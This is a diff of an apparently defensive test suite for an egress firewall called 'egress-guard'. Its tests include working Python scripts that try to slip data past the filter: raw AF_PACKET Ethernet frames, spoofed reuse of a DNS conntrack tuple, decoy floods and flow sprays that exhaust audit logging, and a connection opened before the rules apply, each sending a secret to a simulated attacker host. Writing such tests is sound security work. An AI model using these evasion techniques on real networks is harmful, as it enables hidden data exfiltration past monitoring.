@@ -119,6 +119,55 @@ function asSidecarUid(args: string[]) {
   return world.job('setpriv', [`--reuid=${uid}`, `--regid=${gid}`, '--clear-groups', ...args]);
 }
 
+/** Docker's default capabilities: what a root job in a container keeps unless it is started with --cap-drop. */
+const DOCKER_DEFAULT_CAPS = [
+  'chown',
+  'dac_override',
+  'fowner',
+  'fsetid',
+  'kill',
+  'setgid',
+  'setuid',
+  'setpcap',
+  'net_bind_service',
+  'net_raw',
+  'sys_chroot',
+  'mknod',
+  'audit_write',
+  'setfcap',
+];
+
+/**
+ * python3 as a root job with only `caps` (no NET_ADMIN: it cannot change the rules): one IPv4/UDP datagram written
+ * as an Ethernet frame to the gateway's MAC on an AF_PACKET socket. Exit 0 when sent, 3 when the socket is refused.
+ */
+function sendRawFrame(caps: readonly string[], host: string, port: number, payload: string) {
+  const script = `
+import socket, struct, sys
+host, port, payload, source = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode(), sys.argv[4]
+dev = [l.split() for l in open('/proc/net/route').read().splitlines()[1:] if l.split()[1] == '00000000'][0][0]
+try:
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+except PermissionError as e:
+    sys.stderr.write('AF_PACKET refused: %s\\n' % e)
+    sys.exit(3)
+macs = [l.split()[3] for l in open('/proc/net/arp').read().splitlines()[1:] if l.split()[5] == dev and l.split()[3] != '00:00:00:00:00:00']
+if not macs:
+    sys.exit('no neighbour on ' + dev)
+s.bind((dev, 0))
+def checksum(b):
+    total = sum(struct.unpack('!%dH' % (len(b) // 2), b))
+    total = (total >> 16) + (total & 0xffff)
+    return ~(total + (total >> 16)) & 0xffff
+udp = struct.pack('!HHHH', 40000, port, 8 + len(payload), 0) + payload
+ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(host))
+ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
+s.send(bytes.fromhex(macs[0].replace(':', '')) + s.getsockname()[4] + bytes([8, 0]) + ip + udp)
+`;
+  const bounding = ['-all', ...caps.map((c) => `+${c}`)].join(',');
+  return world.job('setpriv', [`--bounding-set=${bounding}`, '--inh-caps=-all', 'python3', '-c', script, host, String(port), payload, NET.runnerV4]);
+}
+
 for (const mode of ['block', 'audit'] as const) {
   describe(`${mode} mode`, () => {
     before(async () => {
@@ -145,31 +194,6 @@ for (const mode of ['block', 'audit'] as const) {
       assert.equal(arrivedUdp(547, secret).length, mode === 'block' ? 0 : 1);
       const event = await world.decision((e) => e.kind === 'udp' && e.host === NET.attacker6 && e.port === 547);
       assert.equal(event?.decision, mode === 'block' ? 'blocked' : 'would-block', 'the event names the attempt');
-    });
-
-    test('UDP: a flood to one host does not keep a datagram to another out of the report (audit passes it: its event is all there is)', async () => {
-      const secret = `behind-a-flood-${mode}`;
-      // 3,000 datagrams to one destination, then at once one to another: with one kernel limit for the rule (100/s,
-      // burst 200) the flood had spent it, and the datagram left (audit) with no event.
-      const script = `
-import socket, sys
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-def send(data, host, port):
-    try:
-        s.sendto(data, (host, port))
-    except OSError:
-        pass
-for i in range(3000):
-    send(b'junk', sys.argv[1], 443)
-send(sys.argv[3].encode(), sys.argv[2], 9999)
-`;
-      const sent = await world.job('python3', ['-c', script, NET.rawOnly, NET.attacker, secret], { timeoutMs: 25_000 });
-      assert.equal(sent.code, 0, sent.stderr);
-      const event = await world.decision((e) => e.kind === 'udp' && e.host === NET.attacker && e.port === 9999);
-      assert.equal(event?.decision, mode === 'block' ? 'blocked' : 'would-block', 'the datagram behind the flood has its event');
-      assert.equal(arrivedUdp(9999, secret).length, mode === 'block' ? 0 : 1);
-      const flood = await world.decision((e) => e.kind === 'udp' && e.host === NET.rawOnly && e.port === 443);
-      assert.ok(flood, 'the flood has its event too');
     });
 
     test('control: a DHCP broadcast still leaves (leases keep working)', async () => {
@@ -257,9 +281,164 @@ send(sys.argv[3].encode(), sys.argv[2], 9999)
       assert.equal(explicit.code, 0, explicit.stderr);
     });
 
+    test("UDP: a job that sends from the source port of egress-guard's upstream DNS exchange (its conntrack entry still alive) is not let through as established", async () => {
+      // An allowed name with a type not asked before: egress-guard asks the upstream (203.0.113.53) from a fresh port.
+      const type = `TYPE${mode === 'block' ? 4601 : 4602}`;
+      const asked = await world.job('dig', ['+tries=1', '+time=3', '@127.0.0.1', 'allowed.test', type]);
+      assert.equal(asked.code, 0, asked.stderr);
+      // The job learns that port (here from conntrack, as root; a job without it would try every port), then sends
+      // its own query from it to the upstream: the tuple of egress-guard's exchange, in the same direction. The entry
+      // carries egress-guard's connmark (0x4547 = 17735), set when its first packet passed nat OUTPUT.
+      const table = await world.job('cat', ['/proc/net/nf_conntrack']);
+      const entry = table.stdout.split('\n').find((l) => l.includes(' udp ') && l.includes(`dst=${NET.dns} `) && l.includes('dport=53 ') && / mark=17735 /.test(l));
+      const port = /sport=(\d+)/.exec(entry ?? '')?.[1];
+      assert.ok(port, `no conntrack entry of the upstream exchange in:\n${table.stdout}`);
+      const name = `own-reuse-${mode}.attacker.test`;
+      const script = `
+import socket, struct, sys
+port, server, name = int(sys.argv[1]), sys.argv[2], sys.argv[3]
+query = struct.pack('!HHHHHH', 0x4547, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('!HH', 1, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(('0.0.0.0', port))
+try:
+    s.sendto(query, (server, 53))
+except OSError as e:
+    print('refused: %s' % e)
+`;
+      const sent = await world.job('python3', ['-c', script, port!, NET.dns, name]);
+      assert.equal(sent.code, 0, sent.stderr);
+      await new Promise((r) => setTimeout(r, 500));
+      const arrived = world.internetLog().filter((e) => e.type === 'dns' && e.name === name);
+      assert.equal(arrived.length, mode === 'block' ? 0 : 1);
+      const event = await world.decision((e) => e.reason === 'own-connection' && e.kind === 'udp' && e.host === NET.dns && e.client.endsWith(`:${port}`));
+      assert.equal(event?.decision, mode === 'block' ? 'blocked' : 'would-block', 'the event names the attempt');
+    });
+
+    test('a datagram to another host in the middle of a flood of datagrams to a decoy is still reported', async () => {
+      // The reports' kernel limit was one bucket per rule (100/s, burst 200): a flood to a decoy used it up, and
+      // a datagram to the real destination sent meanwhile had no report at all, so audit mode passed it unseen.
+      const secret = `flood-hidden-${mode}`;
+      const script = `
+import socket, sys
+decoy, target, secret = sys.argv[1], sys.argv[2], sys.argv[3].encode()
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for i in range(4000):
+    try:
+        s.sendto(secret if i == 2000 else b'decoy', (target, 9999) if i == 2000 else (decoy, 9))
+    except OSError:
+        pass
+`;
+      const sent = await world.job('python3', ['-c', script, NET.attacker, NET.rawOnly, secret]);
+      assert.equal(sent.code, 0, sent.stderr);
+      await new Promise((r) => setTimeout(r, 500));
+      assert.equal(arrivedUdp(9999, secret).length, mode === 'block' ? 0 : 1);
+      const event = await world.decision((e) => e.kind === 'udp' && e.host === NET.rawOnly && e.port === 9999);
+      assert.equal(event?.decision, mode === 'block' ? 'blocked' : 'would-block', 'the flood does not hide the other flow');
+    });
+
+    test(
+      "a root job with Docker's default capabilities (NET_RAW) writes a datagram as an Ethernet frame on an AF_PACKET socket",
+      {
+        todo:
+          'AF_PACKET frames leave below netfilter: no iptables rule sees them (nothing refused, no event). egress-guard cannot ' +
+          'stop this from its rules; the job must not keep NET_RAW (docker-compose.yml now drops it). A fix in egress-guard ' +
+          'would need a netdev egress (nftables) or tc filter on each interface',
+      },
+      async () => {
+        // The gateway's MAC is in the neighbour table once egress-guard has been upstream (as in any job).
+        const allowed = await world.job('curl', ['-sS', '--max-time', '10', '-o', '/dev/null', 'http://allowed.test/']);
+        assert.equal(allowed.code, 0, allowed.stderr);
+        const secret = `af-packet-${mode}`;
+        const sent = await sendRawFrame(DOCKER_DEFAULT_CAPS, NET.rawOnly, 9999, secret);
+        assert.equal(sent.code, 0, sent.stderr);
+        await new Promise((r) => setTimeout(r, 500));
+        assert.equal(arrivedUdp(9999, secret).length, mode === 'block' ? 0 : 1);
+        const event = await world.decision((e) => e.kind === 'udp' && e.host === NET.rawOnly && e.port === 9999 && e.client.endsWith(':40000'));
+        assert.equal(event?.decision, mode === 'block' ? 'blocked' : 'would-block', 'the event names the attempt');
+      },
+    );
+
+    test('control: a root job without NET_RAW (as docker-compose.yml runs the runner) cannot open an AF_PACKET socket', async () => {
+      const secret = `af-packet-no-net-raw-${mode}`;
+      const sent = await sendRawFrame(
+        DOCKER_DEFAULT_CAPS.filter((c) => c !== 'net_raw'),
+        NET.rawOnly,
+        9999,
+        secret,
+      );
+      assert.equal(sent.code, 3, `${sent.stdout}${sent.stderr}`);
+      await new Promise((r) => setTimeout(r, 500));
+      assert.equal(arrivedUdp(9999, secret).length, 0);
+    });
+
     test('control: a port named in --inbound-ports answers outside hosts', async () => {
       const secret = `inbound-allowed-${mode}`;
       assert.equal(await secretReachedFromOutside('tcp', NET.runnerV4, 8022, secret), secret);
     });
+
+    // Last: the spray fills the reports' table of eg:out for 10 s (what else this describe sends there would be dropped).
+    test("a datagram after a spray of more new flows than the reports' table holds is reported or dropped, never passed unseen", async () => {
+      const secret = `spray-hidden-${mode}`;
+      const script = `
+import socket, sys
+decoy, target, secret = sys.argv[1], sys.argv[2], sys.argv[3].encode()
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for i in range(10000):
+    try:
+        s.sendto(b'decoy', (decoy, 20000 + i))
+    except OSError:
+        pass
+try:
+    s.sendto(secret, (target, 443))
+    print('sent')
+except OSError as e:
+    print('refused: %s' % e)
+`;
+      const sent = await world.job('python3', ['-c', script, NET.attacker, NET.rawOnly, secret]);
+      assert.equal(sent.code, 0, sent.stderr);
+      await new Promise((r) => setTimeout(r, 500));
+      const arrived = arrivedUdp(443, secret).length;
+      if (mode === 'block') assert.equal(arrived, 0);
+      const event = await world.decision((e) => e.kind === 'udp' && e.host === NET.rawOnly && e.port === 443);
+      if (arrived) assert.equal(event?.decision, 'would-block', `it arrived (${sent.stdout.trim()}), so audit mode must report it`);
+    });
   });
 }
+
+describe('flows opened before the rules', () => {
+  after(async () => {
+    await world.stopEgressGuard();
+  });
+
+  test(
+    'a TCP connection the job opened before `rules apply` keeps sending to the attacker in block mode, unreported',
+    {
+      todo:
+        'packets of a connection that existed before the rules match the ESTABLISHED,RELATED --ctdir ORIGINAL exemption. ' +
+        'Cutting them needs a conntrack flush at apply, or a connmark set on flows the rules let through with only those ' +
+        "exempt as established; either also cuts the runner's own long-lived connections opened before the first step",
+    },
+    async () => {
+      const script = `
+import socket, sys, time
+s = socket.create_connection((sys.argv[1], 9419), timeout=5)
+for i in range(60):
+    try:
+        s.sendall(('pre-rules-%d\\n' % i).encode())
+    except OSError:
+        break
+    time.sleep(0.2)
+`;
+      const sender = world.job('python3', ['-c', script, NET.attacker], { timeoutMs: 25_000 });
+      const sent = () => world.internetLog().filter((e) => e.type === 'tcp-data' && String(e.data).includes('pre-rules-'));
+      for (let i = 0; i < 50 && sent().length === 0; i++) await new Promise((r) => setTimeout(r, 100));
+      assert.ok(sent().length > 0, 'the connection works before the rules');
+      await world.startEgressGuard('block');
+      const applied = Date.now();
+      await sender;
+      const after = sent().filter((e) => e.time > applied);
+      assert.equal(after.length, 0, `${after.length} writes arrived after the rules were applied`);
+    },
+  );
+});
